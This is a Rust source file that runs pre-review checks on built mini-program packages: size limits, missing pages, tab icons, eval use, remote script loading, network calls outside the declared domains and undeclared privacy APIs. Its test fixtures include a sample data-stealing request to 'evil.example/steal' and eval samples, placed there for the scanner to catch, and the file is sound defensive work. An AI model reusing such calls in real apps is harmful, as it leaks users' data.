//! Automated pre-review checks, run on every built package before a
//! reviewer sees it: sizes, pages and their files, JSON that parses, tab
//! bar icons, forbidden code, network calls outside the app's request
//! domains, privacy-sensitive APIs without a declaration. Each finding
//! names its check, the file and the line (1-based; 0 for a whole file),
//! and whether it blocks the submission.

use crate::build::declared_pages;
use crate::manifest::Manifest;
use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};

/// The limits the checks apply.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Limits {
    /// The main package (every file outside a sub-package's root).
    pub main_bytes: u64,
    /// All files.
    pub total_bytes: u64,
    /// One tab bar icon.
    pub tab_icon_bytes: u64,
}

impl Default for Limits {
    /// The public platforms' limits: 2 MB main package, 20 MB in all,
    /// 40 KB a tab bar icon.
    fn default() -> Limits {
        Limits {
            main_bytes: 2 << 20,
            total_bytes: 20 << 20,
            tab_icon_bytes: 40 << 10,
        }
    }
}

/// One result of a check.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Finding {
    /// `size.main`, `size.total`, `pages.files`, `json.parse`,
    /// `tabbar.icon`, `code.eval`, `code.remote_script`,
    /// `network.domain`, `privacy.undeclared`.
    pub check: String,
    pub blocking: bool,
    pub file: String,
    /// 1-based; 0 when the finding is about the whole file.
    pub line: u32,
    pub message: String,
}

fn finding(check: &str, file: &str, line: u32, message: String) -> Finding {
    Finding {
        check: check.to_owned(),
        blocking: true,
        file: file.to_owned(),
        line,
        message,
    }
}

/// Files whose text is read: code, templates, JSON.
fn is_text(path: &str) -> bool {
    [".js", ".swan", ".json", ".css", ".sjs", ".filter.js"]
        .iter()
        .any(|e| path.ends_with(e))
}

/// Text files larger than this are not scanned line by line (they are
/// still counted in the sizes).
const MAX_SCANNED_BYTES: u64 = 4 << 20;

/// APIs that touch personal data, with the `permission` scope of app.json
/// that must declare why.
const PRIVACY_APIS: &[(&str, &str)] = &[
    ("swan.getLocation", "scope.userLocation"),
    ("swan.chooseLocation", "scope.userLocation"),
    ("swan.startLocationUpdate", "scope.userLocation"),
    ("swan.chooseAddress", "scope.address"),
    ("swan.getRecorderManager", "scope.record"),
    ("swan.startRecord", "scope.record"),
    ("swan.getInvoiceTitle", "scope.invoiceTitle"),
];

/// Runs every check on a built package. `read` gives a file's bytes;
/// `request_domains` are the app's (`https://host[:port]`); when there are
/// none, network calls are not checked.
pub fn run(
    manifest: &Manifest,
    read: &mut dyn FnMut(&str) -> Result<Vec<u8>, String>,
    request_domains: &[String],
    limits: &Limits,
) -> Vec<Finding> {
    let mut out = Vec::new();
    let app_json: Option<Map<String, Value>> = read("app.json")
        .ok()
        .and_then(|b| serde_json::from_slice(&b).ok());
    sizes(manifest, app_json.as_ref(), limits, &mut out);
    if let Some(app) = &app_json {
        pages(manifest, app, &mut out);
        tab_icons(manifest, app, limits, &mut out);
    }
    let declared: Vec<String> = app_json
        .as_ref()
        .and_then(|a| a.get("permission"))
        .and_then(Value::as_object)
        .map(|p| p.keys().cloned().collect())
        .unwrap_or_default();
    for (path, f) in &manifest.files {
        if !is_text(path) || f.size > MAX_SCANNED_BYTES {
            continue;
        }
        let Ok(bytes) = read(path) else { continue };
        let text = String::from_utf8_lossy(&bytes);
        if path.ends_with(".json") {
            if let Err(e) = serde_json::from_slice::<Value>(&bytes) {
                out.push(finding(
                    "json.parse",
                    path,
                    e.line() as u32,
                    format!("JSON 无法解析: {e}"),
                ));
            }
            continue;
        }
        scan_code(path, &text, request_domains, &declared, &mut out);
    }
    out
}

fn sub_roots(app: Option<&Map<String, Value>>) -> Vec<String> {
    let Some(app) = app else { return Vec::new() };
    ["subPackages", "subpackages"]
        .iter()
        .filter_map(|k| app.get(*k).and_then(Value::as_array))
        .flatten()
        .filter_map(|s| s.get("root").and_then(Value::as_str))
        .map(|r| format!("{}/", r.trim_end_matches('/')))
        .collect()
}

fn sizes(
    manifest: &Manifest,
    app: Option<&Map<String, Value>>,
    limits: &Limits,
    out: &mut Vec<Finding>,
) {
    let roots = sub_roots(app);
    let main: Vec<(&String, u64)> = manifest
        .files
        .iter()
        .filter(|(p, _)| !roots.iter().any(|r| p.starts_with(r.as_str())))
        .map(|(p, f)| (p, f.size))
        .collect();
    let main_size: u64 = main.iter().map(|(_, s)| s).sum();
    let largest = |files: &[(&String, u64)]| {
        files
            .iter()
            .max_by_key(|(_, s)| *s)
            .map(|(p, s)| ((*p).clone(), *s))
            .unwrap_or_default()
    };
    if main_size > limits.main_bytes {
        let (file, size) = largest(&main);
        out.push(finding(
            "size.main",
            &file,
            0,
            format!(
                "主包 {main_size} 字节，超过上限 {} 字节；最大的文件 {file} 为 {size} 字节",
                limits.main_bytes
            ),
        ));
    }
    let total = manifest.total_size();
    if total > limits.total_bytes {
        let all: Vec<(&String, u64)> = manifest.files.iter().map(|(p, f)| (p, f.size)).collect();
        let (file, size) = largest(&all);
        out.push(finding(
            "size.total",
            &file,
            0,
            format!(
                "代码包共 {total} 字节，超过上限 {} 字节；最大的文件 {file} 为 {size} 字节",
                limits.total_bytes
            ),
        ));
    }
}

/// A page without its template cannot render: that blocks. A page without
/// its script renders with no logic, which may be meant: reported only.
fn pages(manifest: &Manifest, app: &Map<String, Value>, out: &mut Vec<Finding>) {
    for page in declared_pages(app) {
        for (ext, blocking) in [("swan", true), ("js", false)] {
            let file = format!("{page}.{ext}");
            if !manifest.files.contains_key(&file) {
                out.push(Finding {
                    blocking,
                    ..finding(
                        "pages.files",
                        "app.json",
                        0,
                        format!("页面 {page} 缺少文件 {file}"),
                    )
                });
            }
        }
    }
}

fn tab_icons(
    manifest: &Manifest,
    app: &Map<String, Value>,
    limits: &Limits,
    out: &mut Vec<Finding>,
) {
    let list = app
        .get("tabBar")
        .and_then(|t| t.get("list"))
        .and_then(Value::as_array);
    for item in list.into_iter().flatten() {
        for key in ["iconPath", "selectedIconPath"] {
            let Some(icon) = item.get(key).and_then(Value::as_str) else {
                continue;
            };
            let icon = icon.trim_start_matches('/');
            match manifest.files.get(icon) {
                None => out.push(finding(
                    "tabbar.icon",
                    "app.json",
                    0,
                    format!("tabBar 图标 {icon} ({key}) 不存在"),
                )),
                Some(f) if f.size > limits.tab_icon_bytes => out.push(finding(
                    "tabbar.icon",
                    icon,
                    0,
                    format!(
                        "tabBar 图标 {} 字节，超过上限 {} 字节",
                        f.size, limits.tab_icon_bytes
                    ),
                )),
                Some(_) => {}
            }
        }
    }
}

/// Whether `needle` occurs in `line` as a call (followed by optional
/// spaces and `(`), not inside a longer name (`medieval(`).
fn calls(line: &str, needle: &str) -> bool {
    let mut from = 0;
    while let Some(at) = line[from..].find(needle) {
        let start = from + at;
        let end = start + needle.len();
        let before_ok = line[..start]
            .chars()
            .next_back()
            .is_none_or(|c| !(c.is_alphanumeric() || c == '_' || c == '$' || c == '.'));
        let after = line[end..].trim_start();
        if before_ok && after.starts_with('(') {
            return true;
        }
        from = end;
    }
    false
}

/// The origins of the `http(s)://` literals of a line.
fn urls(line: &str) -> Vec<String> {
    let mut found = Vec::new();
    for scheme in ["https://", "http://"] {
        let mut from = 0;
        while let Some(at) = line[from..].find(scheme) {
            let start = from + at;
            let rest = &line[start + scheme.len()..];
            let host: String = rest
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':'))
                .collect();
            if !host.is_empty() {
                found.push(format!("{scheme}{}", host.to_ascii_lowercase()));
            }
            from = start + scheme.len();
        }
    }
    found
}

fn scan_code(
    path: &str,
    text: &str,
    request_domains: &[String],
    declared: &[String],
    out: &mut Vec<Finding>,
) {
    let is_script = path.ends_with(".js") || path.ends_with(".sjs");
    for (n, line) in text.lines().enumerate() {
        let n = n as u32 + 1;
        if calls(line, "eval") {
            out.push(finding("code.eval", path, n, "使用了 eval".to_owned()));
        }
        if line.contains("new Function") && calls(line, "Function") {
            out.push(finding(
                "code.eval",
                path,
                n,
                "使用了 new Function".to_owned(),
            ));
        }
        let lower = line.to_ascii_lowercase();
        if (lower.contains("<script") && lower.contains("src="))
            || calls(line, "importScripts")
            || (lower.contains("createelement") && lower.contains("'script'"))
            || (lower.contains("createelement") && lower.contains("\"script\""))
        {
            out.push(finding(
                "code.remote_script",
                path,
                n,
                "加载了远程脚本".to_owned(),
            ));
        }
        if !is_script {
            continue;
        }
        if !request_domains.is_empty() {
            for origin in urls(line) {
                let allowed = request_domains.contains(&origin)
                    || origin
                        .strip_suffix(":443")
                        .is_some_and(|o| request_domains.iter().any(|d| d == o));
                if !allowed {
                    out.push(finding(
                        "network.domain",
                        path,
                        n,
                        format!("{origin} 不在小程序的 request 合法域名中"),
                    ));
                }
            }
        }
        for (api, scope) in PRIVACY_APIS {
            if calls(line, api) && !declared.iter().any(|d| d == scope) {
                out.push(finding(
                    "privacy.undeclared",
                    path,
                    n,
                    format!("调用 {api} 须在 app.json 的 permission 中声明 {scope}"),
                ));
            }
        }
    }
}

/// The first blocking finding, if any.
pub fn first_blocking(findings: &[Finding]) -> Option<&Finding> {
    findings.iter().find(|f| f.blocking)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::BTreeMap;

    fn package(files: &[(&str, &[u8])]) -> (Manifest, BTreeMap<String, Vec<u8>>) {
        let mut m = Manifest::default();
        let mut bytes = BTreeMap::new();
        for (p, b) in files {
            m.insert(p, b);
            bytes.insert(p.to_string(), b.to_vec());
        }
        (m, bytes)
    }

    fn check(files: &[(&str, &[u8])], domains: &[&str], limits: Limits) -> Vec<Finding> {
        let (m, bytes) = package(files);
        let domains: Vec<String> = domains.iter().map(|d| d.to_string()).collect();
        run(
            &m,
            &mut |p| bytes.get(p).cloned().ok_or_else(|| "missing".into()),
            &domains,
            &limits,
        )
    }

    const APP: &[u8] = br#"{"pages": ["pages/index/index"]}"#;

    #[test]
    fn a_clean_package_has_no_finding() {
        let f = check(
            &[
                ("app.json", APP),
                ("pages/index/index.swan", b"<view>hi</view>"),
                (
                    "pages/index/index.js",
                    b"Page({ onLoad() { swan.request({url: 'https://api.example.com/x'}); } });",
                ),
            ],
            &["https://api.example.com"],
            Limits::default(),
        );
        assert_eq!(f, vec![]);
    }

    #[test]
    fn each_check_names_its_file_and_line() {
        let f = check(
            &[
                ("app.json", br#"{"pages": ["pages/index/index", "pages/gone/gone"],
                  "tabBar": {"list": [{"iconPath": "img/tab.png", "selectedIconPath": "img/none.png"}]}}"#),
                ("img/tab.png", &[0u8; 50 << 10]),
                ("pages/index/index.swan", b"<view>\n<script src=\"https://cdn.x/a.js\"></script>\n</view>"),
                ("pages/index/index.js", b"const a = 1;\nconst b = eval('1+1');\nnew Function('x', 'return x');\nswan.request({url: 'https://evil.example/steal'});\nswan.getLocation({});\nconst medieval = 1; retrieval(2);"),
                ("pages/index/index.json", b"{\n  \"a\": 1,\n}"),
            ],
            &["https://api.example.com"],
            Limits::default(),
        );
        let got: Vec<(&str, &str, u32)> = f
            .iter()
            .map(|x| (x.check.as_str(), x.file.as_str(), x.line))
            .collect();
        for want in [
            ("pages.files", "app.json", 0),
            ("tabbar.icon", "img/tab.png", 0),
            ("tabbar.icon", "app.json", 0),
            ("code.remote_script", "pages/index/index.swan", 2),
            ("code.eval", "pages/index/index.js", 2),
            ("code.eval", "pages/index/index.js", 3),
            ("network.domain", "pages/index/index.js", 4),
            ("privacy.undeclared", "pages/index/index.js", 5),
            ("json.parse", "pages/index/index.json", 3),
        ] {
            assert!(got.contains(&want), "{want:?} not in {got:?}");
        }
        assert!(
            !got.iter().any(|(_, _, l)| *l == 6),
            "medieval( is not eval(: {got:?}"
        );
        let gone: Vec<bool> = f
            .iter()
            .filter(|x| x.check == "pages.files")
            .map(|x| x.blocking)
            .collect();
        assert_eq!(
            gone,
            vec![true, false],
            "a missing template blocks, a missing script is noted"
        );
        assert!(
            f.iter()
                .filter(|x| x.check != "pages.files")
                .all(|x| x.blocking)
        );
    }

    #[test]
    fn sizes_count_the_main_package_apart_from_sub_packages() {
        let limits = Limits {
            main_bytes: 100,
            total_bytes: 300,
            tab_icon_bytes: 10,
        };
        let app = br#"{"pages": [], "subPackages": [{"root": "sub", "pages": []}]}"#;
        let ok = check(
            &[("app.json", app), ("sub/big.png", &[0u8; 150])],
            &[],
            limits,
        );
        assert_eq!(
            ok,
            vec![],
            "a sub-package's file is not in the main package"
        );
        let f = check(
            &[
                ("app.json", app),
                ("img/big.png", &[0u8; 150]),
                ("sub/b.png", &[0u8; 200]),
            ],
            &[],
            limits,
        );
        let main = f
            .iter()
            .find(|x| x.check == "size.main")
            .expect("main too large");
        assert_eq!(main.file, "img/big.png");
        assert!(f.iter().any(|x| x.check == "size.total"));
    }

    #[test]
    fn a_declared_permission_and_no_request_domains_pass() {
        let app = br#"{"pages": ["p/i"], "permission": {"scope.userLocation": {"desc": "nearby shops"}}}"#;
        let f = check(
            &[
                ("app.json", app),
                ("p/i.swan", b""),
                (
                    "p/i.js",
                    b"swan.getLocation({}); fetch('https://any.example');",
                ),
            ],
            &[],
            Limits::default(),
        );
        assert_eq!(f, vec![]);
    }
}
